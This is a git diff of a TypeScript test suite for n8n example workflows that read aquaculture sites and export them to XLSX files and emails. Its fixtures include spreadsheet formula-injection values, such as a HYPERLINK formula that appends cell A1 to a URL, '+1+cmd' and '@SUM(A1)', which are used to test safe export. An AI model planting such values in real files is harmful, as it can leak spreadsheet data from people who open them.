@@ -14,7 +14,7 @@ import { parse as parseHtml } from 'node-html-parser';
 import readXlsx from 'read-excel-file/node';
 import { Emulator, UNLIMITED } from '../../emulator/server';
 import { knownSitesOf, SITES } from '../../emulator/sites';
-import { exampleNames, exampleWorkflow } from '../../testbed/n8n/examples';
+import { createCredentials, exampleNames, exampleWorkflow } from '../../testbed/n8n/examples';
 import { VERSIONS } from '../../testbed/n8n/install';
 import { itemsOf, N8nInstance, type Execution } from '../../testbed/n8n/instance';
 import { until } from '../../testbed/wait';
@@ -25,7 +25,7 @@ import { IncomingWebhook } from '../../testbed/servers/incomingWebhook';
 import { MailServer } from '../../testbed/servers/mailServer';
 import { shareStage } from '../../testbed/jest/shareStage';
 import { unlimitedAccount } from '../../testbed/n8n/unlimited';
-import { credentialsOf, getSiteNode, pollTimesOf, webhookWorkflow } from '../../testbed/workflows';
+import { getSiteNode, pollTimesOf, webhookWorkflow } from '../../testbed/workflows';
 
 /** A site whose name a mail, and n8n's own templates, could take for something else. */
 const ODD_SITE = {
@@ -49,19 +49,18 @@ const TEMPLATE_SITE = {
 	],
 };
 
+const FORMULA_INFO = {
+	code: '+1+cmd',
+	type: '@SUM(A1)',
+	license: '-1+1',
+	maxTotalBiomass: -1,
+	timezone: '\t=1+1',
+};
 /** A site whose texts a spreadsheet program could take for formulas. */
 const FORMULA_SITE = {
 	siteId: 1033,
 	siteName: '=HYPERLINK("https://example.com?"&A1;"Storvågen")',
-	info: {
-		code: '+1+cmd',
-		type: '@SUM(A1)',
-		license: '-1+1',
-		timezone: '\t=1+1',
-		latitude: -44.5,
-		longitude: -73.25,
-		maxTotalBiomass: -1,
-	},
+	info: { ...FORMULA_INFO, latitude: -44.5, longitude: -73.25 },
 	units: [{ unitId: 4, unitName: '=1+1', latitude: -44.5, longitude: -73.25 }],
 };
 
@@ -73,22 +72,25 @@ const EVERY_THREE_SECONDS = Array.from({ length: 20 }, (_, index) => index * 3);
 /** The login that the form asks for. */
 const FORM_LOGIN = { user: 'farm', password: 'form-Passw0rd' };
 
-/** Sites of which some lack fields, with others in between. */
-const SITE_ROWS = [
-	['siteId', 'siteName', 'code', 'type', 'license', 'maxTotalBiomass', 'timezone'],
-	[1021, 'Gamle Brygga', null, null, null, null, null],
-	[1004, 'Lille Grønnvik', 'LGV', 'Sea', 'N-V-0104', 1560, 'Europe/Oslo'],
-	[1031, ODD_SITE.siteName, null, null, null, null, null],
-	[1023, 'Cañal "Ø" & søn, <test>', 'CNO', 'Sea', 'RNA-10223', 900, 'America/Santiago'],
+/** What the columns of a sheet hold for sites of which some lack fields. */
+const SHEET = [
+	[
+		...['siteId', 'siteName', 'code', 'type', 'license', 'maxTotalBiomass', 'timezone'],
+		...['latitude', 'longitude', 'numberOfUnits'],
+	],
+	[1021, 'Gamle Brygga', null, null, null, null, null, 60.3871, 5.2204, 2],
+	[
+		...[1004, 'Lille Grønnvik', 'LGV', 'Sea', 'N-V-0104', 1560, 'Europe/Oslo'],
+		...[68.2283, 15.6412, 3],
+	],
+	[1031, ODD_SITE.siteName, null, null, null, null, null, null, null, 1],
+	[
+		...[1023, 'Cañal "Ø" & søn, <test>', 'CNO', 'Sea', 'RNA-10223', 900],
+		...['America/Santiago', -44.0126, -73.9107, 3],
+	],
+	// Of a formula, which a file stores without its equals sign, only the result would be read.
+	[1033, FORMULA_SITE.siteName, ...Object.values(FORMULA_INFO), -44.5, -73.25, 1],
 ];
-const PLACES = [
-	['latitude', 'longitude', 'numberOfUnits'],
-	[60.3871, 5.2204, 2],
-	[68.2283, 15.6412, 3],
-	[null, null, 1],
-	[-44.0126, -73.9107, 3],
-];
-const SITE_IDS = '1021, 1004, 1031, 1023';
 
 const ADDRESSES = { fromEmail: 'farm@example.com', toEmail: 'a@example.com, b@example.com' };
 
@@ -112,29 +114,20 @@ describe.each(VERSIONS)('the example workflows in n8n %s', (version) => {
 	let mailServer: MailServer;
 	let n8n: N8nInstance;
 	let credentials: INodeCredentials;
-	let aquaculture: string;
 
 	beforeAll(async () => {
-		emulator = await stage.keep(
-			Emulator.start({
-				...UNLIMITED,
-				sites: ALL_SITES,
-			}),
-		);
+		emulator = await stage.keep(Emulator.start({ ...UNLIMITED, sites: ALL_SITES }));
 		mailServer = await stage.keep(MailServer.start());
 		// The form is then at the address of the editor, which looks whether it answers before it opens the window.
 		n8n = await N8nInstance.start(stage, version, { N8N_HOST: '127.0.0.1' });
-		aquaculture = await n8n.createCredential({
-			...unlimitedAccount(emulator.baseUrl),
-			knownSites: knownSitesOf(ALL_SITES),
+		credentials = await createCredentials(n8n, {
+			aquacultureApi: {
+				...unlimitedAccount(emulator.baseUrl),
+				knownSites: knownSitesOf(ALL_SITES),
+			},
+			smtp: mailServer.credential,
+			httpBasicAuth: FORM_LOGIN,
 		});
-		const sender = await n8n.createCredential(mailServer.credential, 'smtp');
-		const login = await n8n.createCredential(FORM_LOGIN, 'httpBasicAuth');
-		credentials = {
-			...credentialsOf(aquaculture),
-			smtp: { id: sender, name: 'Mail account' },
-			httpBasicAuth: { id: login, name: 'Form login' },
-		};
 	}, 240_000);
 	beforeEach(() => {
 		emulator.reset();
@@ -194,28 +187,14 @@ describe.each(VERSIONS)('the example workflows in n8n %s', (version) => {
 	});
 
 	it('sites-to-an-xlsx-file makes a file with a row for each site', async () => {
+		const siteIds = SHEET.slice(1).map(([siteId]) => siteId);
 		const execution = await run('sites-to-an-xlsx-file', {
-			'Get Many Sites': { sites: 'byId', siteIds: SITE_IDS },
+			'Get Many Sites': { sites: 'byId', siteIds: siteIds.join() },
 		});
 
 		const { name, content } = await fileOf(execution, 'Convert to XLSX');
-		const rows = SITE_ROWS.map((row, index) => [...row, ...(PLACES[index] ?? [])]);
 		expect(name).toBe('sites.xlsx');
-		await expect(readXlsx(content)).resolves.toEqual([{ sheet: 'Sites', data: rows }]);
-	});
-
-	// Of a formula, which a file stores without its equals sign, only the result would be read.
-	it('a name that looks like a formula is a text in the files of sites-to-an-xlsx-file and weekly-mail', async () => {
-		const onlyFormulas = { 'Get Many Sites': { sites: 'byId', siteIds: '1033' } };
-		const execution = await run('sites-to-an-xlsx-file', onlyFormulas);
-		await run('weekly-mail', { ...onlyFormulas, 'Send Email': ADDRESSES });
-
-		const { content } = await fileOf(execution, 'Convert to XLSX');
-		const attached = mailServer.mails[0]?.attachments[0]?.content as ArrayBuffer;
-		for (const file of [content, Buffer.from(attached)]) {
-			const [sheet] = await readXlsx(file);
-			expect(sheet?.data[1]?.slice(0, 2)).toEqual([1033, FORMULA_SITE.siteName]);
-		}
+		await expect(readXlsx(content)).resolves.toEqual([{ sheet: 'Sites', data: SHEET }]);
 	});
 
 	it('weekly-mail mails a table of all known sites, and a file', async () => {
@@ -248,10 +227,8 @@ describe.each(VERSIONS)('the example workflows in n8n %s', (version) => {
 		expect(attached?.filename).toMatch(/^sites-20\d\d-\d\d-\d\d\.xlsx$/);
 		const [sheet] = await readXlsx(Buffer.from(attached?.content as ArrayBuffer));
 		expect(sheet?.sheet).toBe('Sites');
-		expect(sheet?.data.slice(0, 2)).toEqual([
-			[...(SITE_ROWS[0] ?? []), ...(PLACES[0] ?? [])],
-			[1001, 'Storvågen', 'STO', 'Sea', 'M-H-0101', 3120, 'Europe/Oslo', 63.5218, 8.4127, 8],
-		]);
+		expect(sheet?.data).toHaveLength(1 + ALL_SITES.length);
+		expect(sheet?.data).toEqual(expect.arrayContaining(SHEET));
 	});
 
 	it('weekly-mail says which sites could not be read, and mails the others', async () => {
@@ -274,8 +251,8 @@ describe.each(VERSIONS)('the example workflows in n8n %s', (version) => {
 			database = await stage.keep(startPostgresql());
 			const { port } = database;
 			const place = { host: '127.0.0.1', port, database: 'postgres', user: 'n8n', password: '' };
-			const id = await n8n.createCredential({ ...place, ssl: 'disable' }, 'postgres');
-			credentials.postgres = { id, name: 'Postgres account' };
+			const postgres = { ...place, ssl: 'disable' };
+			Object.assign(credentials, await createCredentials(n8n, { postgres }));
 		});
 
 		const rowsOf = async (query: string) =>
@@ -372,7 +349,7 @@ describe.each(VERSIONS)('the example workflows in n8n %s', (version) => {
 				'Send Email': ADDRESSES,
 			});
 			await n8n.activate(errorWorkflow);
-			const failing = webhookWorkflow('failing', getSiteNode(aquaculture));
+			const failing = webhookWorkflow('failing', getSiteNode(`${credentials.aquacultureApi?.id}`));
 			await n8n.activate(
 				await n8n.createWorkflow({
 					...failing,
